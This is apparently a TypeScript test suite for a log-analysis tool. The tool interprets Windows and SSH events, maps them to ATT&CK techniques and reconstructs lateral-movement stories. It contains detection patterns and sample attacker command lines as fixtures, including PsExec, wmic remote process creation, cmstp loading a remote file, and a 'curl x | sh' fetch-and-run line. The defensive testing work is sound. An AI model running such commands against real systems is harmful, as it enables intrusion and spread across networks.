/**
 * Domain knowledge as data: the bundled file loads and says what Windows events mean; a broken
 * file is refused with the line of each mistake; and a new log source is taught to the stages
 * by adding entries to the data, without code.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { parse, stringify } from 'yaml';
import type { DetectionRecord } from '../../src/detections/record.js';
import { addressClaims } from '../../src/events/addresses.js';
import { DEFAULT_DOMAIN_FILE, defaultDomain, loadDomain, type DomainData } from '../../src/events/domain.js';
import { StoryBuilder } from '../../src/stories/builder.js';
import { LIMITS } from '../../src/core/limits.js';

const dir = mkdtempSync(join(tmpdir(), 'fb-domain-'));
after(() => rmSync(dir, { recursive: true, force: true }));

function write(name: string, text: string): string {
  const p = join(dir, name);
  writeFileSync(p, text);
  return p;
}

describe('domain data', () => {
  it('the bundled file says what Windows events mean', () => {
    const d = defaultDomain();
    const m = (eventId: number, channel: string, fields: Record<string, string | number | boolean> = {}, provider: string | null = null) => d.meaningOf({ eventId, channel, provider, fields });
    assert.equal(m(4624, 'Security')?.meaning, 'logon');
    assert.deepEqual(m(4624, 'Security', { LogonType: 10 })?.technique({ LogonType: 10 }), { id: 'T1021.001' });
    assert.deepEqual(m(4625, 'Security')?.technique({ LogonType: 3 }), { name: 'failed network logon' });
    assert.equal(m(4625, 'Security')?.guesses, true);
    assert.deepEqual(m(5145, 'Security')?.technique({ ShareName: '\\\\*\\ADMIN$' }), { id: 'T1021.002' });
    assert.deepEqual(m(5145, 'Security')?.technique({ ShareName: '\\\\*\\c$' }), { id: 'T1021.002' });
    assert.deepEqual(m(5145, 'Security')?.technique({ ShareName: '\\\\*\\IPC$' }), { name: 'network share access' });
    assert.equal(m(7045, 'System')?.lateral, true);
    assert.equal(m(1102, 'Security', {}, 'Microsoft-Windows-Eventlog')?.meaning, 'log-cleared');
    assert.equal(m(4624, 'Application'), undefined, 'a 4624 outside the Security log means nothing');
    const out = m(3, 'Microsoft-Windows-Sysmon/Operational', { Initiated: 'true' })!;
    assert.deepEqual(out.sources.address, [], 'an outbound connection names no source');
    assert.deepEqual(out.targetAddress, ['DestinationIp'], 'but the host it reached');
    const inbound = m(3, 'Microsoft-Windows-Sysmon/Operational', { Initiated: 'false' })!;
    assert.deepEqual(inbound.sources.address, ['SourceIp']);
    assert.deepEqual(inbound.targetAddress, []);
    // RDP (type 10): WorkstationName is the target's own name, so only the address names the client.
    assert.deepEqual(m(4624, 'Security', { LogonType: 10 })!.sources.host, []);
    assert.deepEqual(m(4624, 'Security', { LogonType: 3 })!.sources.host, ['WorkstationName', 'SourceHostname']);
    assert.deepEqual(addressClaims({ EventID: 4624, Channel: 'Security', LogonType: 10, IpAddress: '10.0.0.5', WorkstationName: 'SRV01' }, 'SRV01'), []);
    // Movement suspicious in itself, and what it takes to be routine-learnt.
    const logon = m(4624, 'Security', { LogonType: 3 })!;
    assert.equal(logon.access, true);
    assert.equal(logon.suspicious({ LogonType: 3, LogonProcessName: 'NtLmSsp', KeyLength: 0, TargetUserName: 'Administrator' }), 'pass-the-hash logon (NTLM without a session key)');
    assert.equal(logon.suspicious({ LogonType: 3, LogonProcessName: 'NtLmSsp', KeyLength: 128, TargetUserName: 'Administrator' }), undefined);
    assert.equal(logon.suspicious({ LogonType: 3, LogonProcessName: 'NtLmSsp', KeyLength: 0, TargetUserName: 'ANONYMOUS LOGON' }), undefined);
    const svc = m(7045, 'System')!;
    assert.equal(svc.suspicious({ ImagePath: '%SystemRoot%\\PSEXESVC.exe' }), 'a service whose binary is outside the install locations');
    assert.equal(svc.suspicious({ ImagePath: '"C:\\Program Files\\Vendor\\agent.exe" -service' }), undefined);
    assert.equal(svc.suspicious({ ImagePath: '%SystemRoot%\\system32\\svchost.exe -k netsvcs' }), undefined);
    const share = m(5145, 'Security')!;
    assert.equal(share.suspicious({ ShareName: '\\\\*\\ADMIN$', RelativeTargetName: 'PSEXESVC.exe', AccessList: '%%4417 %%4418' }), 'an executable written to an administrative share');
    assert.equal(share.suspicious({ ShareName: '\\\\*\\ADMIN$', RelativeTargetName: 'PSEXESVC.exe', AccessList: '%%4416' }), undefined, 'read, not written');
    assert.equal(share.suspicious({ ShareName: '\\\\*\\home$', RelativeTargetName: 'a.exe', AccessList: '%%4417' }), undefined, 'not an admin share');
    const proc = m(1, 'Microsoft-Windows-Sysmon/Operational')!;
    const named = (cmd: string) => proc.targetPatterns.map((p) => p.re.exec(cmd)?.[1]).find((x) => x);
    assert.equal(named('PsExec64.exe \\\\SRV03 -accepteula -s cmd'), 'SRV03');
    assert.equal(named('schtasks /create /s srv07.corp.local /tn x /tr y'), 'srv07.corp.local');
    assert.equal(named('powershell -c Invoke-Command -ComputerName DC01 {}'), 'DC01');
    assert.equal(named('"C:\\Windows\\system32\\mstsc.exe" /v:JUMP01.corp.local'), 'JUMP01.corp.local');
    assert.equal(named('cmd.exe /c dir \\\\?\\C:\\x'), undefined);
    // Seen in real attack recordings: a URL after regsvr32's or cmstp's /s, a WMI namespace, a port after /v:.
    assert.equal(named('cmstp.exe /ni /s https://example.com/p.inf'), undefined);
    assert.equal(named('"C:\\Windows\\System32\\wbem\\WMIC.exe" /namespace:"\\\\root\\subscription" PATH __EventFilter CREATE'), undefined);
    assert.equal(named('wmic /node:"SRV02" process call create x'), 'SRV02');
    assert.equal(named('mstsc.exe /v:srv01:3389'), 'srv01');
    assert.equal(named('net use \\\\FS01\\C$ /u:CORP\\admin'), 'FS01');
    assert.deepEqual(d.processFields.image, ['Image', 'NewProcessName']);
    assert.ok(d.isNoiseAccount('system', 'nt authority'));
    assert.ok(d.isNoiseAccount('dwm-3', ''));
    assert.ok(!d.isNoiseAccount('alice', 'corp'));
  });

  it('a broken file is refused, naming the line and column of each mistake', () => {
    const data = parse(readFileSync(DEFAULT_DOMAIN_FILE, 'utf8')) as DomainData & Record<string, unknown>;
    (data.events[0] as unknown as Record<string, unknown>).event_ids = ['four'];
    data.colour = 'blue';
    const file = write('broken.yml', stringify(data));
    assert.throws(
      () => loadDomain(file),
      (e: Error & { code?: string }) => {
        assert.equal(e.code, 'data-invalid');
        assert.match(e.message, new RegExp(`${file.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')}:\\d+:\\d+: events\\.0\\.event_ids\\.0: must be integer`));
        assert.match(e.message, /unknown key 'colour'/);
        return true;
      },
    );
    assert.throws(() => loadDomain(write('syntax.yml', 'identity_fields: [a, b\n')), /syntax\.yml:\d+:\d+/);
    const fresh = parse(readFileSync(DEFAULT_DOMAIN_FILE, 'utf8')) as DomainData;
    fresh.accounts.noise_patterns = ['('];
    assert.throws(() => loadDomain(write('pattern.yml', stringify(fresh))), /accounts\.noise_patterns\[0\]: bad pattern/);
  });

  it('a new log source joins the stories through data alone (an SSH logon from a known host is movement)', () => {
    const data = parse(readFileSync(DEFAULT_DOMAIN_FILE, 'utf8')) as DomainData;
    data.events.push({
      meaning: 'logon',
      channels: ['auth.log'],
      when: { program: 'sshd', outcome: 'accepted' },
      sources: { address: ['src_ip'], host: [] },
      technique: [{ id: 'T1021.004' }],
    });
    data.address_claims.push({ channels: ['auth.log'], when: { program: 'sshd', outcome: 'accepted' }, address: 'src_ip', host: 'src_host' });
    const domain = loadDomain(write('linux.yml', stringify(data)));
    const det = (computer: string, t: string, fields: Record<string, string>, level: DetectionRecord['level'] = 'high'): DetectionRecord => ({
      timestamp: t,
      computer,
      channel: 'auth.log',
      provider: null,
      eventId: null,
      recordId: null,
      level,
      rule: { id: 'r-' + computer, title: 'SSH logon of interest', level, status: 'test', tags: [], file: 'x.yml', kind: 'sigma' },
      matched: {},
      sourceFile: 'auth.log',
      event: { Channel: 'auth.log', ...fields },
    });
    const build = (d: typeof domain) => {
      const b = new StoryBuilder({ domain: d });
      for (const c of addressClaims({ Channel: 'auth.log', program: 'sshd', outcome: 'accepted', src_ip: '10.0.0.5', src_host: 'web01' }, 'db01', d)) b.learnAddress(c.ip, c.host);
      b.add(det('web01', '2026-01-01T10:00:00Z', { program: 'bash', CommandLine: 'curl x | sh', User: 'deploy' }));
      b.add(det('db01', '2026-01-01T10:05:00Z', { program: 'sshd', outcome: 'accepted', src_ip: '10.0.0.5', User: 'deploy' }));
      return b.finish();
    };
    const withData = build(domain);
    assert.equal(withData.length, 1);
    assert.deepEqual(
      withData[0]!.spread.map((e) => [e.from, e.to, e.technique.id]),
      [['web01', 'db01', 'T1021.004']],
    );
    assert.equal(withData[0]!.patientZero?.computer, 'web01');
    // The bundled data knows nothing of auth.log: no movement is drawn.
    const without = build(defaultDomain());
    assert.deepEqual(
      without.flatMap((s) => s.spread.filter((e) => e.fromKind === 'host')),
      [],
    );
  });

  it('an event of a channel no entry names costs one lookup, and invented channels cannot grow memory', () => {
    const d = defaultDomain();
    const at = (channel: string, eventId: number, provider: string | null = null) => d.meaningOf({ eventId, channel, provider, fields: { LogonType: 3 } })?.meaning;
    // Hostile input inventing a channel per event: the remembered lists are bounded by
    // LIMITS.domain.admittedLists (forgotten when full, then worked out again).
    for (let i = 0; i < LIMITS.domain.admittedLists * 3; i++) assert.equal(at(`Invented-${i}`, 4624), undefined);
    const admitted = (d as unknown as { meanings: { admitted: Map<string, Map<unknown, unknown>> } }).meanings.admitted;
    const lists = [...admitted.values()].reduce((n, byId) => n + byId.size, 0);
    assert.ok(lists <= LIMITS.domain.admittedLists, `${lists} lists remembered`);
    // The answers do not depend on what was remembered: spelled in any case, before and after.
    for (let round = 0; round < 2; round++) {
      assert.equal(at('Security', 4624), 'logon');
      assert.equal(at('SECURITY', 4624), 'logon');
      assert.equal(at('security', 4625), 'failed-logon');
      assert.equal(at('Application', 4624), undefined);
      assert.equal(at('linux/sshd', 0), undefined, 'the sshd entries read fields this event does not have');
      assert.equal(at('Security', 1102, 'Microsoft-Windows-Eventlog'), 'log-cleared');
      assert.equal(at('Security', 1102, 'microsoft-windows-EVENTLOG'), 'log-cleared');
      assert.equal(at('Security', 1102, 'Other-Provider'), undefined);
      assert.equal(at('Security', 1102), undefined, 'log-cleared names its provider');
    }
  });
});
